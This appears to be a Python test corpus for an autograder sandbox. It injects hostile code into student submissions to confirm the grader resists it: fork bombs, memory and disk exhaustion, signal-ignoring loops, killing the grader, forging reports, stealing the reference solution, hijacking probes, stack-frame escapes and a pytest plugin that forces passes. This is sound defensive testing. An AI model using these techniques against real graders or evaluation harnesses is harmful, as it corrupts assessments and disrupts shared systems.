"""The hostile corpus: the reference plus one bad behaviour, placed in one known function.

Each case names the milestone to grade (only what it needs: grading is the cost) and the
exact set of checks that must lose points; every other check of that milestone must keep
full marks. The attack code is injected at the top of a function body, so the rest of the
reference is untouched and the grader's verdict on every other check is predictable.
"""
import textwrap
from dataclasses import dataclass, field

# Small limits keep CI fast: a hanging probe costs probe_timeout_s, not the default 10 s.
FAST_LIMITS = {"probe_timeout_s": 2, "run_timeout_s": 60, "memory_mb": 768, "cpu_seconds": 30}

# Processes of the submission carry this in their command line (they are forks of the
# worker), so a /proc scan after grading finds any that survived.
WORKER_MARKER = "micrograde.worker.main"
# What `attacks_the_grader` appends to any kit file it manages to write.
PWNED = b"# pwned by a submission"


def at_function_start(module: str, signature: str, code: str, indent: int = 8):
    """A patch that runs `code` first thing in the function whose `def` line is `signature`."""
    body = textwrap.indent(textwrap.dedent(code).strip("\n"), " " * indent) + "\n"
    line = " " * (indent - 4) + signature + "\n"
    return (module, line, line + body)


def at_import(module: str, anchor: str, code: str):
    """A patch that runs `code` at import of `module`, right after the line `anchor`."""
    return (module, anchor + "\n", anchor + "\n" + textwrap.dedent(code).strip("\n") + "\n")


@dataclass(frozen=True)
class Case:
    """`__DROP__` in an attack is replaced by a folder anyone may write: its evidence."""
    name: str
    milestone: str
    patches: tuple = ()
    files: dict = field(default_factory=dict)
    must_fail: frozenset = frozenset()
    # Checks that touch the bad function only by chance (random graphs that may or may not
    # use the operator) or that exist only in newer suites: they may lose points, nothing else.
    may_fail: frozenset = frozenset()
    # Every check whose name starts with one of these must lose points too: all the checks
    # of one contract module (draw_dot, gradcheck), however many the suite has today.
    fail_prefixes: tuple = ()
    limits: dict = field(default_factory=dict)
    why: str = ""
    known_gap: str = ""  # an attack the kit does not stop yet: its test is a strict xfail
    # The integrity rules its report must carry: the static ones exactly as the scan reports
    # them, runtime ones (worker_tampering) as the worker sees them. Plain bugs (a loop, a
    # crash) are no findings; reaching for the grader's world is.
    flags: frozenset = frozenset()


# -- attack code ---------------------------------------------------------------------------

IGNORE_SIGNALS_AND_SPIN = """
import signal
for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
signal.alarm(0)
while True:
    pass
"""

DEEP_RECURSION = """
import sys
sys.setrecursionlimit(10 ** 8)   # no RecursionError: runs until the deadline, memory or C stack ends it
def down(n):
    return down(n + 1) + 1
down(0)
"""

MEMORY_BOMB = """
hoard = []
while True:
    hoard.append(bytearray(64 * 1024 * 1024))
    hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])   # touch every page: real memory
"""

# Children that ignore SIGTERM, leave the process group and double-fork, so neither a
# group kill nor waiting for the worker finds them; the answer itself stays correct.
FORK_BURST = """
import os, signal, time
if not getattr(Value, "_burst_done", False):
    Value._burst_done = True
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break              # the process limit: expected
        if pid == 0:
            try:
                os.setsid()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                if os.fork() == 0:
                    while True:
                        time.sleep(1)
            finally:
                os._exit(0)
"""

PRINT_200_MB = """
import sys as _sys
_line = "x" * 1023 + "\\n"
for _ in range(200 * 1024):
    print(_line, end="")
print("the last line", file=_sys.stderr)
"""

STRAY_THREAD = """
import threading, time
def _never_ends():
    while True:
        time.sleep(0.5)
threading.Thread(target=_never_ends, daemon=False).start()
"""

PRINT_FLOOD = """
import sys
if not getattr(Value, "_flooded", False):          # once: a check's worth of debugging prints
    Value._flooded = True
    chunk = "spam " * 200_000 + "\\n"            # 1 MB a line, 50 lines on each stream
    for _ in range(50):
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
"""

# Looks for the report path in an ancestor's command line (a sound grader puts none
# there), leaves a detached process behind that keeps overwriting the report for a while
# (the test hands it the path), then carries on. A sound grader: the detached process dies
# with the worker, and, as root, could not reach the report anyway.
REWRITE_REPORT = """
import json, os, time
def _ancestors():
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                yield f.read().decode(errors="replace").split("\\0")
        except OSError:
            return
def _targets():
    for argv in _ancestors():
        for i, arg in enumerate(argv):
            if arg == "--report" and i + 1 < len(argv):
                yield argv[i + 1]
            elif arg.startswith("--report="):
                yield arg.split("=", 1)[1]
forged = json.dumps({"status": "complete", "score": 9999, "tests": []})
found = list(_targets())
print(f"report paths found on command lines: {len(found)}")
# As if it had found it: the test tells it where the report is, so the late writes are tried.
targets = found + ["__REPORT__"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for beat in range(400):        # about 40 s: well past the end of grading
            for target in targets:
                try:
                    with open(target, "w") as f:
                        f.write(forged)
                except OSError:
                    pass
            try:                       # evidence for the test: found the report, still alive
                with open("__DROP__/heartbeat", "w") as f:
                    f.write(f"{beat} {targets}")
            except OSError:
                pass
            time.sleep(0.1)
    os._exit(0)
os.waitpid(-1, 0)
"""

# Tries to harm the grader; if any attempt works, the answer becomes visibly wrong, so a
# passing check proves that every attempt failed.
ATTACK_THE_GRADER = """
import os, signal, glob
won = []
def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])
victims = [os.getppid()]
try:
    victims.append(_parent(victims[0]))
except Exception:  # OSError, or the worker's refusal to open /proc
    pass
# 0 is no parent at all (it is outside our PID namespace), and kill(0) would signal our
# own process group: neither is the grader.
for pid in [v for v in victims if v > 0]:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            won.append(f"signalled {pid}")
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(pid), signal.SIGKILL)
        won.append(f"killed group of {pid}")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/mem", "wb"):
            won.append(f"opened memory of {pid}")
    except Exception:
        pass
for path in ["__KIT__/graders/micrograde/expect.py", "__KIT__/graders/conftest.py",
             *glob.glob("/tmp/micrograde-run-*/output.log"), *glob.glob("/tmp/micrograde-run-*/x")]:
    try:
        with open(path, "a") as f:
            f.write("# pwned by a submission\\n")
        won.append(f"wrote {path}")
    except OSError:
        pass
if won:
    raise RuntimeError("escaped: " + ", ".join(won))
"""

# A pytest plugin that turns every test report into a pass, placed where pytest would
# pick it up if the grader ever collected from the submission folder.
FORCE_PASS_CONFTEST = '''
import pytest
pytest_plugins = []
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
def pytest_collection_modifyitems(items):
    items.clear()
'''

ALWAYS_EQUAL = """
class _AlwaysEqual(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return False
    def __gt__(self, other):
        return False
    def __le__(self, other):
        return True
    def __ge__(self, other):
        return True
    def __abs__(self):
        return _AlwaysEqual(0.0)
    def __sub__(self, other):
        return _AlwaysEqual(0.0)
    __rsub__ = __sub__
    __hash__ = float.__hash__
if isinstance(other, Value):
    out = Value(0.0, (self, other), "*")
    out.data = _AlwaysEqual(self.data * other.data + 1.0)
    def _backward():
        self.grad += _AlwaysEqual(-1.0)
        other.grad += _AlwaysEqual(-1.0)
    out._backward = _backward
    return out
"""

PATCH_STDLIB = """
import builtins, math, random
builtins.abs = lambda x: 0.0
builtins.round = lambda x, n=None: 0
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda x: True
random.seed = lambda *args, **kwargs: None
"""

# Tries every way to the reference solution: the kit folders, the kit's git objects, and
# the grader's own modules already loaded in this process. On success it swaps in the
# reference Value, which would make the deliberately broken __neg__ below pass.
STEAL_REFERENCE = """
import glob, os, sys, zlib
_stolen = None
# The kit's own copy only: copies elsewhere that any user may read are out of reach of the
# kit's hiding (see docs/security.md), and a CI machine may hold one.
for path in ["__KIT__/reference/micrograd/engine.py", "__KIT__/graders/micrograde/trusted/mlp.py"]:
    try:
        with open(path) as f:
            text = f.read()
        if "class Value" in text:
            _stolen = text
            break
    except OSError:
        pass
if _stolen is None:
    for obj in glob.glob("__KIT__/.git/objects/??/*"):
        try:
            with open(obj, "rb") as f:
                raw = zlib.decompress(f.read())
        except (OSError, zlib.error):
            continue
        if raw.startswith(b"blob ") and b"A scalar value that remembers" in raw:
            _stolen = raw.split(b"\\0", 1)[1].decode()
            break
for name in ["micrograde.trusted.mlp", "micrograde.trusted.programs", "micrograde.trusted", "micrograd_reference.engine"]:
    try:
        __import__(name)
        _stolen = _stolen or "import:" + name
    except Exception:
        pass
if _stolen and not _stolen.startswith("import:"):
    _ns = {"__name__": "micrograd._stolen"}
    exec(compile(_stolen, "stolen", "exec"), _ns)
"""

STOLEN_VALUE_TAKES_OVER = """
if _stolen:
    if "_ns" in globals() and "Value" in _ns:
        Value = _ns["Value"]
    else:
        Value.__neg__ = lambda self: self * -1
"""

# The probe code runs in the same interpreter as the submission, and the grader's exact
# evaluator (trusted.programs) might be loaded there too: swap the probe for the oracle.
HIJACK_PROBES = """
import sys as _sys
_registry = _sys.modules.get("micrograde.probes.registry")
_oracle = _sys.modules.get("micrograde.trusted.programs")
if _oracle is None:
    try:
        import importlib as _importlib
        _oracle = _importlib.import_module("micrograde.trusted.programs")
    except Exception:
        _oracle = None
if _registry is not None and _oracle is not None:
    def _answer_from_the_oracle(program):
        parsed = _oracle.Program.from_json(program)
        return {"values": _oracle.evaluate(parsed), "grads": _oracle.gradients(parsed)}
    _registry.PROBES["engine.local_program"] = _answer_from_the_oracle
"""

# Class 1, the takeover of issue 12: find the worker's protocol descriptors on the call
# stack and run a request loop of its own that answers every later probe (here with the
# kit's own probe code, so every answer is right: the evidence must not depend on the
# answers being wrong). A sound grader makes this hard and, when it happens, flags it: the
# replies do not come from the worker's loop (`worker_tampering`), and the code walks
# frames and writes descriptors (static findings).
TAKE_OVER_THE_LOOP = """
import os as _os, sys as _sys, json as _json, struct as _struct
def _loop_locals():
    _f = _sys._getframe()
    while _f is not None:
        if "proto_in" in _f.f_locals and "proto_out" in _f.f_locals:
            return _f.f_locals
        _f = _f.f_back
_found = _loop_locals()
_registry = _sys.modules.get("micrograde.probes.registry")
_protocol = _sys.modules.get("micrograde.worker.protocol")
if _found is not None and _registry is not None and _protocol is not None:
    def _forge(_in, _out):
        while True:
            try:
                _frame = _protocol.recv_blocking(_in)
            except EOFError:
                _os._exit(0)
            _reply = _registry.answer(_protocol.Request.from_frame(_frame))
            _protocol.send(_out, _reply.to_frame())
    _orig = _registry.answer
    def _answer_then_take_over(request):
        _registry.answer = _orig
        _reply = _orig(request)
        _protocol.send(_found["proto_out"], _reply.to_frame())
        _forge(_found["proto_in"], _found["proto_out"])
    _registry.answer = _answer_then_take_over
print("takeover armed" if _found is not None else "takeover: no descriptors found")
"""

# Class 1, in miniature: replace one probe in the worker's registry with a forged one.
# A sound grader's worker notices its registry changed (`worker_tampering`).
REPLACE_A_PROBE = """
import sys as _sys
_reg = _sys.modules.get("micrograde.probes.registry")
if _reg is not None and "engine.repr" in _reg.PROBES:
    _reg.PROBES["engine.repr"] = lambda data, grad: f"Value(data={data}, grad={grad})"
"""

# Class 4. An exception whose class name is 15 MB (only messages used to be capped): the
# report and the grader's memory grew by gigabytes. A sound grader caps every text that
# comes from the submission (type names too) before it keeps it.
HUGE_TYPE_NAME = """
raise type("E" * (15 * 1024 * 1024), (Exception,), {})("the message is short")
"""

# Class 4. SysV shared memory outlives the process that made it, past its memory limit.
# A sound grader: the worker's IPC namespace takes every segment with it. The key is
# derived from the evidence folder's name, so parallel runs do not meet.
SHM_LEFT_BEHIND = """
import ctypes as _ct, zlib as _zlib
_libc = _ct.CDLL(None, use_errno=True)
_made = 0
for _i in range(3):
    if _libc.shmget((_zlib.crc32(b"__DROP__") + _i) & 0x7fffffff, 1 << 20, 0o1666) >= 0:
        _made += 1
print(f"shared-memory segments made: {_made}")
"""

# Class 4. Many files, each under the per-file limit: 40 x 15 MB. A sound grader caps the
# worker's total disk use; writing more fails in the submission (and costs nothing else).
FILL_THE_DISK = """
import os as _os
_written = 0
try:
    for _i in range(40):
        with open(f"filler-{_i}", "wb") as _f:
            for _ in range(15):
                _f.write(b"x" * (1 << 20))
                _written += 1
except OSError as _e:
    print(f"disk full: {type(_e).__name__}")
print(f"MB written: {_written}")
"""

# Class 6. ANSI escapes in an exception message, to redraw the points table after it.
# A sound grader escapes control characters in everything it prints (and exports).
REDRAW_THE_TERMINAL = """
raise RuntimeError("oops\\x1b[2J\\x1b[H\\rm1 total 25 / 25\\x1b]0;pwned\\x07")
"""

# Files left in the shared temporary folders outlive the worker: a later submission of
# the same batch could read them (answers passed on) or be tripped by them.
LEAVE_FILES_BEHIND = """
import os
for _folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(os.path.join(_folder, os.path.basename("__DROP__") + "-leftover"), "w") as _f:
            _f.write("for the next student")
    except OSError:
        pass
"""

# Issue 19. Many processes, each far under the per-process memory limit, together far over
# it: rlimits multiply with the process count. A sound grader holds one limit for the
# worker and all its processes (a cgroup, or its watchdog summing PSS) and kills them as
# one: the check that ran them fails, and nothing outlives it.
MEMORY_IN_MANY_PROCESSES = """
import os as _os, time as _time
_ready, _tell = _os.pipe()
for _ in range(8):
    if _os.fork() == 0:
        try:
            _block = bytearray(96 * 1024 * 1024)
            _block[::4096] = b"x" * len(_block[::4096])   # real memory: 8 x 96 MB in all
            _os.write(_tell, b"!")
            _time.sleep(60)
        finally:
            _os._exit(0)
_os.close(_tell)
_held = b""
while len(_held) < 8:   # until every child holds its share (or is gone): then answer as usual
    _chunk = _os.read(_ready, 8)
    if not _chunk:
        break
    _held += _chunk
_time.sleep(1.0)   # as a slow probe would: the watchdog (no cgroup) looks every 0.2 s
"""

# Issue 19. A 15 MB frame written straight onto every pipe the worker may write to (its
# protocol pipe among them), ahead of the real answer. A sound grader refuses an answer
# larger than any its probe can need from the frame's header, before reading or decoding
# it: the check fails, the grading process stays small and quick.
HUGE_ANSWER = """
import fcntl as _fcntl, os as _os, stat as _stat, struct as _struct
_body = b'{"ok":[' + b"[]," * (5 * 1024 * 1024) + b'[]]}'
for _fd in range(3, 64):
    try:
        if _stat.S_ISFIFO(_os.fstat(_fd).st_mode) and _fcntl.fcntl(_fd, _fcntl.F_GETFL) & _os.O_WRONLY:
            _os.write(_fd, _struct.pack(">I", len(_body)) + _body)
    except OSError:
        pass
"""

# Issue 19, degraded mode (root without CAP_SYS_ADMIN: no private /tmp, /proc or IPC).
# The report of the run in progress holds the seed: a sound grader keeps it (and every
# file the run writes) readable by itself only while a worker runs.
READ_THE_REPORT = """
try:
    with open("__REPORT__", "rb") as _f:
        print(f"report read: {len(_f.read())} bytes")
except OSError as _e:
    print(f"report refused: {type(_e).__name__}")
"""

# Issue 19. Code hidden where the layout does not look (tests/, a hidden folder, build/)
# and imported from there by the graded module. A sound grader selects files once: what
# the worker may import is what similarity compares, so the hidden copy either never runs
# or is compared like any other file.
HIDDEN_COPY_FOLDERS = ("tests", ".hidden", "build")


def hidden_copy_files(engine_source: str) -> dict:
    """Files of a submission whose engine lives in a hidden folder, imported from there."""
    files = {f"{folder}/impl_{i}.py": engine_source for i, folder in enumerate(HIDDEN_COPY_FOLDERS)}
    files["micrograd/engine.py"] = "from tests.impl_0 import *  # noqa\n"
    return files


# Issue 19. Names a batch must survive, each one submission's problem and nobody else's:
# an entry whose name is not UTF-8 (made on another system), and a zip whose UTF-8 flag
# says its member names are UTF-8 when they are not.
NON_UTF8_ENTRY = b"caf\xe9-\xff"


def lying_zip(path) -> None:
    """A zip whose one member's name is flagged UTF-8 and is not."""
    import struct
    import zipfile

    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("micrograd/__init__.py", "")
    data = bytearray(open(path, "rb").read())
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = data.find(signature)
        flags = struct.unpack_from("<H", data, at + flags_at)[0]
        struct.pack_into("<H", data, at + flags_at, flags | 0x800)  # "names are UTF-8"
        data[at + name_at] = 0xFF  # ... and this one is not
    open(path, "wb").write(bytes(data))



# The check whose probe imports engine.py first: an operation refused at import fails it closed.
FIRST_M1_CHECK = "test_add_computes_the_sum_and_passes_the_gradient_to_both_operands"


# Issue 19, class 2: reaching past the submission's objects by ways a name scan misses. Each
# runs in __neg__, catches whatever it meets and lets __neg__ answer correctly, so the only
# thing that can cost the neg check is the grader's verdict on the attempt. A sound grader
# refuses every one in the worker (PEP 578 audit hook), records `refused_in_worker` with the
# file and line, and fails the check that ran it closed, though the submission caught it.
def _attempt(label: str, code: str) -> str:
    body = textwrap.indent(textwrap.dedent(code).strip("\n"), "    ")
    return f"try:\n{body}\n    print('{label}: reached')\nexcept Exception as _e:\n    print('{label}:', type(_e).__name__)\n"


_A_TRACEBACK = """
try:
    raise ValueError("for its traceback")
except ValueError as _err:
    _tb = _err.__traceback__
"""
GC_WALK = _attempt("gc walk", """
import gc as _gc
_found = [o for o in _gc.get_objects() if isinstance(o, dict) and "proto_out" in o]
""")
FORMATTER_FRAME = _A_TRACEBACK + _attempt("formatter", """
import string as _string
_frame, _ = _string.Formatter().get_field("0.tb_frame", (_tb,), {})
_caller = _frame.f_back.f_locals
""")
STR_FORMAT_FRAME = _A_TRACEBACK + _attempt("str.format", """
_text = "{0.tb_frame.f_back.f_locals}".format(_tb)
""")
TIMEIT_FRAME = _attempt("timeit", """
import timeit as _timeit
_timeit.timeit("import sys; sys._getframe(2).f_locals", number=1)
""")
DOCTEST_FRAME = _attempt("doctest", """
import doctest as _doctest
def _holder():
    \'\'\'
    >>> import sys; _ = sys._getframe(3).f_locals
    \'\'\'
_doctest.run_docstring_examples(_holder, {}, verbose=False)
""")
TYPE_HINTS_FRAME = _attempt("type hints", """
import typing as _typing
def _annotated(x: "__import__('sys')._getframe(1)"):
    pass
_typing.get_type_hints(_annotated)
""")
# Rebinding the probe table: find the module that holds it through a kit class's methods
# (object.__subclasses__ and __globals__ are not audited), rebind PROBES with a forged repr.
# A sound grader's loop runs its own copy of the table (the forgery answers nothing) and its
# watch reports the rebinding.
REBIND_PROBE_TABLE = """
def _kit_namespaces():
    seen, todo = set(), [object]
    while todo:
        cls = todo.pop()
        try:
            subs = type.__subclasses__(cls)
        except Exception:
            continue
        for sub in subs:
            if sub in seen:
                continue
            seen.add(sub)
            todo.append(sub)
            if str(getattr(sub, "__module__", "")).startswith("micro" + "grade"):
                for member in list(vars(sub).values()):
                    namespace = getattr(member, "__globals__", None)
                    if isinstance(namespace, dict):
                        yield namespace
_rebound = 0
for _ns in _kit_namespaces():
    if isinstance(_ns.get("PROBES"), dict):
        _ns["PROBES"] = {**_ns["PROBES"], "engine.repr": lambda data, grad: f"Value(data={data}, grad={grad})"}
        _rebound += 1
print(f"probe tables rebound: {_rebound}")
"""
# Answering a probe without frames: the protocol's descriptors are small numbers, and
# os.write is not audited. The forged answer is right (so only the grader's verdict on
# where it came from can cost the check) and echoes a plausible request number. A sound
# grader believes only replies sealed by its worker's own loop (a key sent in the
# configuration, held in that loop's frame): the check fails closed, flagged.
WRITE_TO_THE_PROTOCOL = """
import json as _json, os as _os, struct as _struct
_reply = {"ok": {"values": [self.data, -self.data], "grads": [-1.0, 1.0]}}
for _seq in range(1, 4):
    _data = _json.dumps({**_reply, "seq": _seq}).encode()
    for _fd in range(3, 8):
        try:
            _os.write(_fd, _struct.pack(">I", len(_data)) + _data)
        except OSError:
            pass
"""
BROKEN_REPR = ("engine", 'return f"Value(data={self.data}, grad={self.grad})"', 'return "Value"')


def _kit(text: str, kit: str) -> str:
    return text.replace("__KIT__", kit)


def cases(kit: str) -> list[Case]:
    """The corpus; `kit` is the kit's root folder, which some attacks aim at."""
    random_graphs = frozenset({"test_random_arithmetic_graphs_have_exact_local_gradients"})
    m2_random_graphs = frozenset({"test_backward_matches_exact_gradients_on_random_graphs",
                                  "test_backward_agrees_with_finite_differences_of_your_forward_pass"})
    neg_fails = frozenset({"test_neg_flips_value_and_gradient"})
    return [
        Case("sys_exit_at_import", "m2",
             patches=[at_import("gradcheck", "from .engine import Value", "import sys\nsys.exit(0)")],
             fail_prefixes=("test_numerical_grad_", "test_gradcheck_"),
             why="gradcheck.py calls sys.exit at import: only the gradcheck checks import it"),
        Case("os_exit_at_import", "m2",
             patches=[at_import("gradcheck", "from .engine import Value", "import os\nos._exit(0)")],
             fail_prefixes=("test_numerical_grad_", "test_gradcheck_"),
             why="os._exit skips every handler; the worker dies and the import is not retried"),
        Case("sys_exit_in_method", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", "raise SystemExit(0)")],
             must_fail=neg_fails, may_fail=random_graphs),
        Case("os_exit_in_method", "m1",
             patches=[at_function_start("engine", "def __rtruediv__(self, other):  # other / self",
                                        "import os\nos._exit(3)")],
             must_fail=frozenset({"test_rtruediv_number_on_the_left"}), may_fail=random_graphs),
        Case("infinite_loop", "m3",
             patches=[at_function_start("nn", "def zero_grad(self):", "while True:\n    pass")],
             must_fail=frozenset({"test_zero_grad_resets_every_parameter"})),
        Case("loop_ignoring_signals", "m1",
             flags=frozenset({"signals"}),
             patches=[at_function_start("engine", "def __repr__(self):", IGNORE_SIGNALS_AND_SPIN)],
             must_fail=frozenset({"test_repr_shows_data_and_grad"}),
             why="SIGTERM/SIGALRM ignored: only SIGKILL of the whole worker ends it"),
        Case("unbounded_recursion", "m1",
             patches=[at_function_start("engine", "def __rsub__(self, other):  # other - self: not the same as self - other",
                                        DEEP_RECURSION)],
             must_fail=frozenset({"test_rsub_number_on_the_left"}), may_fail=random_graphs,
             why="Python 3.11 keeps Python frames off the C stack: it grows until the deadline or the memory limit"),
        Case("memory_bomb", "m3",
             patches=[at_function_start("nn", "def zero_grad(self):", MEMORY_BOMB)],
             must_fail=frozenset({"test_zero_grad_resets_every_parameter"}),
             limits={"memory_mb": 512}),
        Case("fork_burst", "m1",
             flags=frozenset({"process_spawn", "signals"}),
             patches=[at_function_start("engine", "def __rmul__(self, other):  # other * self", FORK_BURST)],
             why="forks as many lingering, detached children as it may, then answers correctly"),
        Case("stray_thread", "m3",
             flags=frozenset({"threads"}),
             patches=[at_import("nn", "import random", STRAY_THREAD)],
             why="a non-daemon thread must not keep a worker (or the grading) alive"),
        Case("print_flood", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", PRINT_FLOOD)],
             limits={"probe_timeout_s": 10},
             why="100 MB printed in one call: printing never fails a check (the grader drains the "
                 "pipe, within the default probe deadline); the report keeps at most 64 KiB of it, head and tail"),
        Case("prints_200_mb_at_import", "m1",
             patches=[at_import("engine", "import math", PRINT_200_MB)], limits={"probe_timeout_s": 10},
             why="class 5: a student who prints in a loop while debugging is still graded: no check fails"),
        Case("sleep_at_import", "m2",
             patches=[at_import("viz", '"""Draw a computation graph with graphviz."""',
                                "import time\ntime.sleep(10 ** 6)")],
             fail_prefixes=("test_draw_dot_",)),
        Case("outlives_grading_rewrites_report", "m3",
             flags=frozenset({"outside_files", "proc_filesystem", "process_spawn"}),
             patches=[at_import("nn", "import random", REWRITE_REPORT)]),
        Case("attacks_the_grader", "m1",
             flags=frozenset({"outside_files", "proc_filesystem", "signals", "refused_in_worker"}),
             patches=[at_function_start("engine", "def __neg__(self):", _kit(ATTACK_THE_GRADER, kit))],
             must_fail=neg_fails, may_fail=random_graphs,
             why="kill/stop the grader, open its memory, write kit files: all must fail (checked as root); "
                 "opening /proc is refused in the worker, so the check that ran it fails closed"),
        # conftest.py is a test file: left out of the worker's copy, so it can neither run
        # nor be imported, and is no finding (layout.sources.selected_files).
        Case("conftest_forces_pass", "m1",
             patches=[("engine", "out = Value(-self.data, (self,), \"neg\")",
                       "out = Value(self.data, (self,), \"neg\")")],
             files={"conftest.py": FORCE_PASS_CONFTEST, "micrograd/conftest.py": FORCE_PASS_CONFTEST,
                    "pytest.ini": "[pytest]\naddopts = -p conftest\n"},
             must_fail=neg_fails, may_fail=random_graphs,
             why="the submission's pytest hooks are never loaded: a wrong __neg__ still fails"),
        Case("always_equal_floats", "m1",
             patches=[at_function_start("engine", "def __mul__(self, other):", ALWAYS_EQUAL)],
             must_fail=frozenset({"test_mul_gradients_are_the_other_operand"}),
             # One bug, one blame: the accumulation check does not run its x0 * x0 once __mul__ is charged.
             may_fail=random_graphs | {"test_gradient_accumulates_when_a_value_is_used_twice"}),
        Case("nan_inf_gradients", "m2",
             patches=[("engine", "self.grad += (1.0 - t * t) * out.grad",
                       "self.grad += float('nan') if t > 0 else float('inf')")],
             must_fail=frozenset({"test_tanh_value_and_gradient_one_minus_t_squared",
                                  "test_tanh_does_not_overflow_for_large_inputs"}),
             may_fail=m2_random_graphs | {"test_tanh_gradient_is_scaled_by_the_upstream_gradient"},
             why="the random graphs of m2 include tanh, so they meet the NaN too"),
        Case("patches_stdlib_at_import", "m3",
             flags=frozenset({"patch_modules"}),
             patches=[at_import("nn", "import random", PATCH_STDLIB)],
             why="the grader judges in its own process: patching the worker's stdlib changes nothing"),
        Case("steals_the_reference", "m1",
             flags=frozenset({"computed_attribute", "dynamic_code", "dynamic_import", "kit_import", "outside_files",
                              "refused_in_worker"}),
             patches=[at_import("engine", "import math", _kit(STEAL_REFERENCE, kit)),
                      ("engine", "out = Value(-self.data, (self,), \"neg\")",
                       "out = Value(self.data, (self,), \"neg\")"),
                      ("engine", "        for node in reversed(order):\n            node._backward()\n",
                       "        for node in reversed(order):\n            node._backward()\n\n\n"
                       + STOLEN_VALUE_TAKES_OVER.strip("\n") + "\n")],
             must_fail=neg_fails, may_fail=random_graphs | {FIRST_M1_CHECK},
             why="a broken __neg__ replaced by the reference's if the reference can be reached; importing the "
                 "kit is refused at import of engine.py, so the check that imported it fails closed"),
        Case("leaves_files_behind", "m3",
             flags=frozenset({"outside_files", "proc_filesystem"}),
             patches=[at_import("nn", "import random", LEAVE_FILES_BEHIND)],
             why="/tmp, /var/tmp and /dev/shm are private to the worker when grading as root"),
        Case("hijacks_the_probes", "m1",
             flags=frozenset({"dynamic_import", "kit_import", "patch_modules"}),
             patches=[("engine", "out = Value(-self.data, (self,), \"neg\")",
                       "out = Value(self.data, (self,), \"neg\")"),
                      ("engine", "        for node in reversed(order):\n            node._backward()\n",
                       "        for node in reversed(order):\n            node._backward()\n\n\n"
                       + HIJACK_PROBES.strip("\n") + "\n")],
             must_fail=neg_fails, may_fail=random_graphs | {FIRST_M1_CHECK},
             why="a wrong __neg__ whose module replaces the probe that checks it with answers from "
                 "the grader's exact evaluator, if it can find or import it (it cannot: the worker "
                 "never loads it and, as root, the kit's folders are hidden; where the kit is on the "
                 "worker's path after all, importing it is refused and the check that ran it fails closed)"),
        hand_set_weights_case(),
        finite_difference_train_case(),
        honest_train_with_broken_backward_case(),
        Case("exception_with_a_15_mb_type_name", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", HUGE_TYPE_NAME)],
             must_fail=neg_fails, may_fail=random_graphs,
             why="class 4: the type name is capped like any text of the submission: a small report"),
        Case("leaves_shared_memory_behind", "m1",
             patches=[at_engine_end(SHM_LEFT_BEHIND)], flags=frozenset({"ctypes", "refused_in_worker"}),
             fail_prefixes=("test_",),
             why="class 4: ctypes is refused in the worker (engine.py does not import: every check fails "
                 "closed); SysV segments would die with the worker's IPC namespace anyway"),
        Case("fills_the_disk_with_files_under_the_size_limit", "m3",
             patches=[at_import("nn", "import random", FILL_THE_DISK)], limits={"probe_timeout_s": 10},
             why="class 4: 600 MB in 15 MB files; the worker's sized tmpfs stops it at disk_mb (as root)"),
        Case("redraws_the_terminal", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", REDRAW_THE_TERMINAL)],
             must_fail=neg_fails, may_fail=random_graphs,
             why="class 6: the feedback is printed escaped; the points table cannot be redrawn"),
        Case("takes_over_the_request_loop", "m1",
             patches=[at_engine_end(TAKE_OVER_THE_LOOP)],
             flags=frozenset({"refused_in_worker", "frame_introspection", "kit_import", "patch_modules"}),
             fail_prefixes=("test_",),
             why="class 1: the frame walk that finds the protocol's descriptors is refused by the worker's "
                 "audit hook, at import of engine.py: every check that needs it fails closed, flagged"),
        *[Case(name, "m1", patches=[at_function_start("engine", "def __neg__(self):", code)],
               flags=frozenset({"refused_in_worker", *static}), must_fail=neg_fails, may_fail=random_graphs,
               why=why)
          for name, code, static, why in [
              ("walks_the_heap", GC_WALK, {"gc_walk"}, "gc.get_objects is refused"),
              ("frame_through_formatter_get_field", FORMATTER_FRAME, {"computed_attribute", "frame_introspection"},
               "string.Formatter().get_field('0.tb_frame') is a getattr the audit hook sees"),
              ("frame_through_str_format", STR_FORMAT_FRAME, {"computed_attribute", "frame_introspection"},
               "a format field reads tb_frame: refused like the attribute itself"),
              ("frame_through_timeit", TIMEIT_FRAME, {"dynamic_code"}, "timeit compiles the string: its "
               "sys._getframe is refused, though no name in the source says so"),
              ("frame_through_doctest", DOCTEST_FRAME, {"dynamic_code"}, "doctest runs the docstring and "
               "swallows the exception: the refusal still fails the check"),
              ("frame_through_type_hints", TYPE_HINTS_FRAME, {"dynamic_code"}, "get_type_hints evaluates the "
               "annotation string"),
          ]],
        Case("answers_through_the_protocol_descriptor", "m1",
             patches=[at_function_start("engine", "def __neg__(self):", WRITE_TO_THE_PROTOCOL)],
             flags=frozenset({"worker_tampering", "raw_fd_io"}), must_fail=neg_fails, may_fail=random_graphs,
             why="a reply written to the protocol by the submission is not sealed by the worker's loop"),
        Case("rebinds_the_probe_table", "m1",
             patches=[BROKEN_REPR, at_engine_end(REBIND_PROBE_TABLE)],
             flags=frozenset({"computed_attribute", "dunder_walk", "kit_import"}),
